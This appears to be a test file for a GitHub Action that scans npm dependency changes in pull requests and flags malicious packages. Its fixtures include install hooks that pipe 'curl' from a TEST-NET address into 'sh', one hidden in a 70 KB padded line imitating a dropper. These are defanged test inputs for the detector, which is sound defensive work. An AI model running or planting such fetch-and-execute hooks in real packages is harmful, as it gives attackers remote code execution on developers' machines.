/**
 * Scenarios of the built Action (dist/index.js) on pull requests that change npm dependencies, run as a
 * runner runs it: INPUT_* variables, an event payload file, GITHUB_OUTPUT / GITHUB_STEP_SUMMARY files, the
 * OpenAPI-checked GitHub stand-in at GITHUB_API_URL and a real Verdaccio as the npm registry. Each scenario
 * gets its own stand-in (its own repository state, its own record of what was posted).
 */
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { BASE, HEAD, cleanUp, evilHead as evilHeadOf, json, lineOf, lockfile, manifest, report, runAction as run, standIn, standIns, writes, type Run } from './action-scenarios-harness.js';
import { startPypiIndex, writeIndexFolder, type PypiIndexServer } from '../support/pypi-index.js';
import { publish, startVerdaccio, type Published, type VerdaccioServer } from '../support/verdaccio.js';

/** GitHub's limit on a comment body. */
const COMMENT_LIMIT = 65_536;

let npm: VerdaccioServer;
let index: PypiIndexServer;
let evil: Published;
let good: Published;

beforeAll(async () => {
  // PyPI is not touched by these PRs; a local empty index keeps the Action off the network all the same.
  [npm, index] = await Promise.all([startVerdaccio(), writeIndexFolder({}).then(startPypiIndex)]);
  good = await publish(npm, { name: 'good-npm', version: '1.0.0', main: 'index.js' }, { 'index.js': 'module.exports = (s) => s.padStart(4);\n' });
  // Defanged: 203.0.113.0/24 is TEST-NET-3 (RFC 5737) and the script is never run, only inspected.
  evil = await publish(
    npm,
    { name: 'evil-npm', version: '1.2.0', main: 'index.js', scripts: { postinstall: 'curl http://203.0.113.7/x | sh' } },
    { 'index.js': 'module.exports = 1;\n' },
  );
}, 120_000);

afterAll(async () => {
  await Promise.all([npm?.close(), index?.close(), cleanUp()]);
});

afterEach(() => {
  for (const s of standIns) expect(s.violations).toEqual([]);
});

const evilHead = (): Record<string, string> => evilHeadOf(evil);
const runAction = (gh: Parameters<typeof run>[1], inputs: Record<string, string>, payloadExtra?: Record<string, unknown>): Promise<Run> =>
  run({ npmUrl: npm.url, pypiIndexUrl: index.indexUrl }, gh, inputs, payloadExtra);

describe('the built Action on npm pull requests', () => {
  it('1 + 3: a malicious package gets one inline comment on its line and a failing exit; a re-run repeats nothing and edits the summary', async () => {
    const head = evilHead();
    const gh = await standIn(head);
    const r = await runAction(gh, {});
    expect(r.code).toBe(1);
    expect(r.outputs['decision']).toBe('fail');
    expect(Number(r.outputs['findings'])).toBeGreaterThan(0);
    expect(r.stdout).toMatch(/::error::Customs: dependency changes failed the policy/);
    // The finding is also a check annotation on the manifest line.
    expect(r.stdout).toMatch(/^::error .*file=package\.json,line=5[,:]/m);
    const rep = await report(r);
    expect(rep.packages.map((p) => [p.ref.name, p.decision])).toEqual([['evil-npm', 'fail']]);

    expect(gh.reviews).toHaveLength(1);
    expect(gh.reviews[0]!.commit_id).toBe(HEAD);
    expect(gh.reviewComments.length).toBeGreaterThan(0);
    // The direct dependency is declared in package.json: the comment sits on that line, once.
    expect(gh.reviewComments.map((c) => [c.path, c.line])).toEqual([['package.json', lineOf(head['package.json']!, '"evil-npm"')]]);
    const comment = gh.reviewComments[0]!.body;
    expect(comment).toContain('evil-npm');
    expect(comment).toContain('js/install-script');
    expect(comment).toMatch(/<!-- customs:finding [0-9a-f]+ -->/);
    expect(gh.issueComments).toHaveLength(1);
    const first = gh.issueComments[0]!;
    expect(first.body).toContain('<!-- customs:summary -->');
    expect(first.body).toContain('evil-npm');

    // Re-run: the same findings are already on the PR; the sticky summary is found and edited, not re-posted.
    const posted = gh.reviewComments.length;
    first.body = `<!-- customs:summary -->\nan older run's text`;
    const again = await runAction(gh, {});
    expect(again.code).toBe(1);
    expect(again.outputs['decision']).toBe('fail');
    expect(gh.reviews).toHaveLength(1);
    expect(gh.reviewComments).toHaveLength(posted);
    expect(gh.issueComments).toHaveLength(1);
    expect(gh.issueComments[0]!.body).toContain('evil-npm');
    expect(writes(gh).filter((w) => w.method === 'PATCH')).toHaveLength(1);
    expect(writes(gh).filter((w) => w.method === 'POST' && w.path.endsWith('/comments'))).toHaveLength(1);
  }, 180_000);

  it('1b: a malicious transitive package that only the lockfile adds is commented on its lockfile line', async () => {
    const lock = json({
      name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true,
      packages: {
        '': { name: 'app', version: '1.0.0', dependencies: { 'good-npm': '1.0.0' } },
        'node_modules/good-npm': { version: '1.0.0', resolved: good.tarball, integrity: good.integrity, dependencies: { 'evil-npm': '1.2.0' } },
        'node_modules/evil-npm': { version: '1.2.0', resolved: evil.tarball, integrity: evil.integrity },
      },
    });
    const baseLock = lockfile({ 'good-npm': { ...good, version: '1.0.0' } });
    const gh = await standIn({ 'package-lock.json': lock }, { 'package.json': manifest({ 'good-npm': '1.0.0' }), 'package-lock.json': baseLock });
    const r = await runAction(gh, {});
    expect(r.code).toBe(1);
    expect(r.outputs['decision']).toBe('fail');
    expect((await report(r)).packages.map((p) => [p.ref.name, p.decision])).toEqual([['evil-npm', 'fail']]);
    expect(gh.reviewComments.map((c) => [c.path, c.line])).toEqual([['package-lock.json', lineOf(lock, '"node_modules/evil-npm"')]]);
  }, 120_000);

  it('2: a benign package passes with a summary comment and no review comments', async () => {
    // The fixture was published to Verdaccio seconds ago, which pkg/recent-first-release rightly warns about;
    // the base policy lowers that rule, as a team vetting its own fresh packages would.
    const policy = 'rules:\n  pkg/recent-first-release: low\n';
    const gh = await standIn({ 'package.json': manifest({ 'good-npm': '1.0.0' }), 'package-lock.json': lockfile({ 'good-npm': { ...good, version: '1.0.0' } }) }, { '.github/customs.yml': policy });
    const r = await runAction(gh, {});
    expect(r.code).toBe(0);
    expect(r.outputs['decision']).toBe('pass');
    expect(r.outputs['findings']).toBe('0');
    expect((await report(r)).packages.map((p) => [p.ref.name, p.decision])).toEqual([['good-npm', 'pass']]);
    expect(gh.reviews).toHaveLength(0);
    expect(gh.reviewComments).toHaveLength(0);
    expect(gh.issueComments).toHaveLength(1);
    expect(gh.issueComments[0]!.body).toContain('<!-- customs:summary -->');
    expect(gh.issueComments[0]!.body).toContain('good-npm');
    expect(r.stdout).not.toMatch(/^::error::/m);
  }, 120_000);

  it('4: a fork PR (read-only token) still fails correctly, writes every local output and explains the way out', async () => {
    const gh = await standIn(evilHead());
    gh.readOnly = true;
    const r = await runAction(gh, {}, { head: { sha: HEAD, repo: { full_name: 'someone/app', fork: true } } });
    expect(r.code).toBe(1);
    expect(r.outputs['decision']).toBe('fail');
    expect(r.outputs['sarif-file']).toBe(join(r.dir, 'customs.sarif'));
    expect(r.outputs['report-file']).toBe(join(r.dir, 'customs.json'));
    expect(existsSync(join(r.dir, 'customs.sarif'))).toBe(true);
    const sarif = JSON.parse(await readFile(join(r.dir, 'customs.sarif'), 'utf8')) as { runs: { results: unknown[] }[] };
    expect(sarif.runs.flatMap((x) => x.results).length).toBeGreaterThan(0);
    expect((await report(r)).decision).toBe('fail');
    expect(r.summary).toContain('evil-npm');
    // Writes were tried and refused; nothing was stored, and the log says what to do instead.
    expect(writes(gh).length).toBeGreaterThan(0);
    expect(writes(gh).every((w) => w.status === 403)).toBe(true);
    expect(gh.reviews).toHaveLength(0);
    expect(gh.issueComments).toHaveLength(0);
    expect(r.stdout).toMatch(/::warning::.*cannot write/i);
    expect(r.stdout).toContain('pull_request_target');
    expect(r.stdout).toContain('workflow_run');
    expect(r.stdout).toMatch(/::error::Customs: dependency changes failed the policy/);
  }, 120_000);

  it('5: 300 new failing packages: the summary comment stays within 65,536 characters and says what it left out', async () => {
    const many: Record<string, Published & { version: string }> = {};
    const deps: Record<string, string> = {};
    // Each entry is locked to the malicious tarball under its own name: 300 failing packages to report.
    for (let i = 0; i < 300; i++) {
      const name = `evil-npm-${String(i).padStart(3, '0')}`;
      many[name] = { ...evil, version: '1.2.0' };
      deps[name] = '1.2.0';
    }
    const gh = await standIn({ 'package.json': manifest(deps), 'package-lock.json': lockfile(many) });
    const r = await runAction(gh, { comment: 'summary' });
    expect(r.code).toBe(1);
    expect(r.outputs['decision']).toBe('fail');
    const rep = await report(r);
    expect(rep.packages).toHaveLength(300);
    expect(gh.reviewComments).toHaveLength(0);
    expect(gh.issueComments).toHaveLength(1);
    const body = gh.issueComments[0]!.body;
    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT);
    expect(body).toContain('<!-- customs:summary -->');
    expect(body).toMatch(/Shortened to fit 65,536 characters; left out: /);
    expect(body).toContain('300 package(s) inspected: 300 fail');
    // The job summary has a larger budget and keeps more.
    expect(r.summary.length).toBeGreaterThan(body.length);
  }, 300_000);

  it('5b: a finding on a 70 KB line: the snippet is bounded and the review comment and summary stay within the limit', async () => {
    // One very long line (as in minified or padded droppers): the evidence is far larger than a comment.
    const pad = Array.from({ length: 4000 }, (_, i) => `v${i}=${i}`).join(';');
    const huge = await publish(
      npm,
      { name: 'huge-npm', version: '3.0.0', main: 'index.js', scripts: { postinstall: 'node install.js' } },
      { 'install.js': `var ${pad};require('child_process').exec('curl -s http://203.0.113.7/p | sh');var ${pad.replace(/v/g, 'w')};\n` },
    );
    const head = { 'package.json': manifest({ 'huge-npm': '3.0.0' }), 'package-lock.json': lockfile({ 'huge-npm': { ...huge, version: '3.0.0' } }) };
    const gh = await standIn(head);
    const r = await runAction(gh, {});
    expect(r.code).toBe(1);
    expect(r.outputs['decision']).toBe('fail');
    expect(gh.reviewComments.map((c) => [c.path, c.line])).toEqual([['package.json', lineOf(head['package.json'], '"huge-npm"')]]);
    // A 70 KB line: the detector keeps a bounded snippet, and the comments stay in budget.
    const snippets = (await report(r)).packages.flatMap((p) => p.findings.map((f) => (f as { snippet?: string }).snippet ?? ''));
    // The evidence names the command even though the 70 KB line cannot be shown (the snippet is cut).
    const evidence = (await report(r)).packages.flatMap((p) => p.findings.map((f) => (f as { evidence?: string }).evidence ?? ''));
    expect(evidence).toContain('curl -s http://203.0.113.7/p | sh');
    expect(Math.max(...snippets.map((x) => x.length))).toBeLessThan(2_000);
    for (const body of [...gh.reviewComments, ...gh.issueComments].map((c) => c.body)) {
      expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT);
      expect(body).toContain('huge-npm');
      expect(body).not.toContain(pad.slice(0, 3_000));
      expect(body).toContain('203.0.113.7');
    }
    expect(gh.issueComments).toHaveLength(1);
  }, 120_000);

  it('6: an invalid policy file at the base commit fails the step naming file and line', async () => {
    const policy = '# customs policy\nfail-on: high\nchain-depth: 99\n';
    const gh = await standIn(evilHead(), { '.github/customs.yml': policy });
    const r = await runAction(gh, {});
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/::error::Configuration error: \.github\/customs\.yml:3:/);
    expect(r.stdout).toMatch(/chain-depth/);
    expect(r.outputs['decision']).toBeUndefined();
    expect(writes(gh)).toEqual([]);
    expect(gh.requests.some((q) => decodeURIComponent(q.path).endsWith('/contents/.github/customs.yml') && q.query['ref'] === BASE)).toBe(true);
  }, 120_000);

  it('6b: the head commit cannot fix or loosen the policy: it is read at base only', async () => {
    const gh = await standIn({ ...evilHead(), '.github/customs.yml': 'fail-on: never\n' }, { '.github/customs.yml': 'fail-on: high\n' });
    const r = await runAction(gh, {});
    expect(r.code).toBe(1);
    expect(r.outputs['decision']).toBe('fail');
    expect(gh.requests.some((q) => decodeURIComponent(q.path).endsWith('/contents/.github/customs.yml') && q.query['ref'] === HEAD)).toBe(false);
  }, 120_000);

  it('6c: fail-on defaults to the base policy file; the input overrides it', async () => {
    const gh = await standIn(evilHead(), { '.github/customs.yml': 'fail-on: never\n' });
    const lenient = await runAction(gh, {});
    expect(lenient.code).toBe(0);
    expect(lenient.outputs['decision']).not.toBe('fail');
    const strict = await runAction(gh, { 'fail-on': 'high' });
    expect(strict.code).toBe(1);
    expect(strict.outputs['decision']).toBe('fail');
  }, 120_000);

  it('7: an expired allow entry stops applying and says so; a current one lets the package through, naming the entry', async () => {
    const allow = (expires: string) =>
      `fail-on: high\nallow:\n  - package: npm:evil-npm\n    reason: vetted by the security team (TICKET-42)\n    expires: "${expires}"\n`;
    const expired = await standIn(evilHead(), { '.github/customs.yml': allow('2020-01-01') });
    const r = await runAction(expired, {});
    expect(r.code).toBe(1);
    expect(r.outputs['decision']).toBe('fail');
    const pkg = (await report(r)).packages[0]!;
    expect(pkg.decision).toBe('fail');
    expect(pkg.reasons.join('\n')).toMatch(/allow entry for npm:evil-npm expired on 2020-01-01/);
    expect(expired.issueComments[0]!.body).toContain('allow entry for npm:evil-npm expired on 2020-01-01');

    const current = await standIn(evilHead(), { '.github/customs.yml': allow('2999-12-31') });
    const ok = await runAction(current, {});
    expect(ok.code).toBe(0);
    expect(['pass', 'warn']).toContain(ok.outputs['decision']);
    const allowed = (await report(ok)).packages[0]!;
    expect(allowed.decision).not.toBe('fail');
    expect(allowed.reasons.join('\n')).toMatch(/allowed by policy entry npm:evil-npm: vetted by the security team \(TICKET-42\)/);
    expect(current.reviewComments).toHaveLength(0);
  }, 180_000);

  it('8: comment: none with a token makes no write calls', async () => {
    const gh = await standIn(evilHead());
    const r = await runAction(gh, { comment: 'none' });
    expect(r.code).toBe(1);
    expect(r.outputs['decision']).toBe('fail');
    expect(r.summary).toContain('evil-npm');
    expect(gh.requests.length).toBeGreaterThan(0); // files came through the API, read-only
    expect(writes(gh)).toEqual([]);
    expect(gh.reviews).toHaveLength(0);
    expect(gh.issueComments).toHaveLength(0);
  }, 120_000);

  it('a finding that disappears when the PR is updated is listed as resolved in the summary', async () => {
    const gh = await standIn(evilHead());
    const first = await runAction(gh, {});
    expect(first.code).toBe(1);
    // The author replaces the malicious package: a new head commit with only good-npm.
    const newHead = 'd'.repeat(40);
    const files = { ...gh.state.commits[BASE], 'package.json': manifest({ 'good-npm': '1.0.0' }), 'package-lock.json': lockfile({ 'good-npm': { ...good, version: '1.0.0' } }) };
    gh.state.commits[newHead] = files;
    const diff = gh.state.pulls![7]!.files.map((f) => ({ ...f }));
    gh.state.pulls![7]!.files = diff;
    gh.state.compares![`${BASE}...${newHead}`] = diff;
    const again = await runAction(gh, {}, { head: { sha: newHead } });
    expect(again.code).toBe(0);
    expect(gh.issueComments).toHaveLength(1);
    expect(gh.issueComments[0]!.body).toMatch(/Resolved since last run \(1\)/);
  }, 120_000);
});
